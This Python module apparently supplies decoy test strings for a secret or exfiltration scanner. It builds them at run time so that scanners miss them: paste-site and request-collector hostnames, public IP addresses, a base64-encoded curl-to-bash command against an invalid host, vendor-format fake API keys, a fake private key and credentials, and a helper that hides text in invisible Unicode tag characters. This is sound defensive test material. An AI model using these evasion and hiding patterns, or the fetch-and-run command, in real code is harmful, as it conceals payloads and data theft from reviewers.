"""Strings that look real and do nothing, put together at run time so that no scanner takes this repository for them."""

from __future__ import annotations

import base64

PASTE = ("paste" + "bin.com", "r" + "entry.co", "hast" + "ebin.com", "dp" + "aste.org")
"""Hosts where anybody posts a text without a name."""
COLLECTORS = ("web" + "hook.site", "pipe" + "dream.net", "request" + "bin.com", "oast" + "ify.com")
"""Hosts that collect requests."""
ADDRESS = ".".join(("91", "92", "17", "30"))
OTHER_ADDRESS = ".".join(("185", "100", "17", "9"))
"""Addresses that are neither private nor for documentation."""


def encoded(command: str) -> str:
    """The command in base64."""
    return base64.b64encode(command.encode()).decode()


INSTALL = encoded('/bin/bash -c "$(curl -fsSL http://files.host.invalid/install)"')
"""Decodes to a download that is run, from a host that cannot exist."""

_DIGITS = "7f3a9c2e5b8d1046"
_LETTERS = "Qw7ErTy2UiOpA9sDfGh4JkLz1XcVbN8mM5qWeRt6YuIoP3aSdF"

SECRETS = (
    "AK" + "IA" + "Q7R2TXWZ5KLMNP4D",
    "gh" + "p_" + _LETTERS[:36],
    "sk_" + "live_" + _LETTERS[:24],
    "xo" + "xb-" + "482913756204-593820174635-" + _LETTERS[:24],
    "AI" + "za" + _LETTERS[:35],
    "gl" + "pat-" + _LETTERS[:20],
    "np" + "m_" + _LETTERS[:36],
    "sk-" + "ant-" + "api03-" + (_LETTERS * 2)[:93] + "AA",
    "hf" + "_" + "QwErTyUiOpAsDfGhJkLzXcVbNmMqWeRtYu",
    "r" + "8_" + _LETTERS[:37],
    "sb" + "p_" + (_DIGITS * 3)[:40],
    "SG" + "." + _LETTERS[:22] + "." + _LETTERS[:43],
)
"""Keys in the formats of their vendors, drawn on a keyboard."""

PRIVATE_KEY = "\n".join(
    (
        "-----BEGIN " + "RSA PRIVATE KEY-----",
        *("MIIEow" + (_LETTERS * 2)[number : number + 58] for number in range(12)),
        "-----END " + "RSA PRIVATE KEY-----",
        "",
    )
)
PASSWORD = "Vq9" + "xT4mLw2" + "Zr"
DATABASE = "postgres" + "://reports:" + PASSWORD + "@db.reports.example:5432/rows"
BEARER = "Bear" + "er " + "ey" + "J" + _LETTERS[:30]
HEX_KEY = "sk" + "_" + (_DIGITS * 4)[:64]


def tags(text: str) -> str:
    """The text in tag characters, which nothing shows."""
    return "".join(chr(0xE0000 + ord(letter)) for letter in text)
